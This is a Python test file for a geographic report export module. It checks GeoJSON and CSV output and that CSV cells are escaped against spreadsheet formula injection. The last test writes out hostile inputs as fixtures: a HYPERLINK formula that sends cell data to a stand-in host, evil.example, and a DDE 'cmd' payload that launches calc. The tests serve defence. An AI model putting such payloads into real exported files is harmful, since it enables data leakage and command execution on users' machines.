"""geo/present/export.py: downloads open everywhere and hold the reports verbatim."""

from __future__ import annotations

import csv
import io
import json

import geopandas as gpd

from geo.dataset import load_dataset
from geo.present.export import CSV_COLUMNS, selection_csv, selection_geojson
from tests.support import FIXTURE_REPORTS, HOSTILE, HOSTILE_ID, hostile_dataset


def test_geojson_selection_reads_back_with_geopandas(tmp_path):
    dataset = load_dataset(FIXTURE_REPORTS)
    chosen = [f for f in dataset.features if f["properties"]["nationality"] == "CN"]
    assert chosen
    path = tmp_path / "selection.geojson"
    path.write_bytes(selection_geojson(chosen, dataset.version, "nationality CN"))
    frame = gpd.read_file(path)
    assert sorted(frame["id"]) == sorted(f["id"] for f in chosen)
    data = json.loads(path.read_text(encoding="utf-8"))
    assert data["dataset_version"] == dataset.version and data["selection"] == "nationality CN" and "crs" not in data


def test_csv_has_one_row_per_report_and_keeps_text_verbatim(tmp_path):
    dataset = load_dataset(hostile_dataset(tmp_path / "h"))
    data = selection_csv(list(dataset.features), dataset.version, "all reports")
    assert data.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert len(rows) == len(dataset) and tuple(rows[0]) == CSV_COLUMNS
    row = next(r for r in rows if r["id"] == HOSTILE_ID)
    assert row["summary"] == HOSTILE and row["source_urls"].startswith("https://")
    assert {r["dataset_version"] for r in rows} == {dataset.version} and rows[0]["selection"] == "all reports"


def test_empty_selection_is_still_valid_geojson():
    data = json.loads(selection_geojson([], "v", "nothing"))
    assert data["features"] == []


def test_no_csv_cell_can_run_as_a_spreadsheet_formula(tmp_path):
    from tests.support import read_rows, write_tables

    rows = read_rows(FIXTURE_REPORTS)
    hostile = {"summary": '=HYPERLINK("http://evil.example/?"&A1,"Click for source")', "claimant": "+1+1",
               "notes": "@SUM(A1:A9)", "place_name": "-2+3", "nationality_label": "\t=1+1", "count_label": ""}
    rows[0].update(hostile)
    dataset = load_dataset(write_tables(tmp_path, rows))
    data = selection_csv(list(dataset.features), dataset.version, "=cmd|' /C calc'!A0")
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # only a number may start so
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for source\")" in cells
    assert "'=1+1" in cells and "'+1+1" in cells and "'@SUM(A1:A9)" in cells and "'-2+3" in cells
    # The GeoJSON keeps the text as it was written.
    collection = json.loads(selection_geojson(list(dataset.features), dataset.version, "x"))
    first = next(f for f in collection["features"] if f["id"] == rows[0]["id"])["properties"]
    assert first["summary"] == hostile["summary"] and first["nationality_label"] == "=1+1"
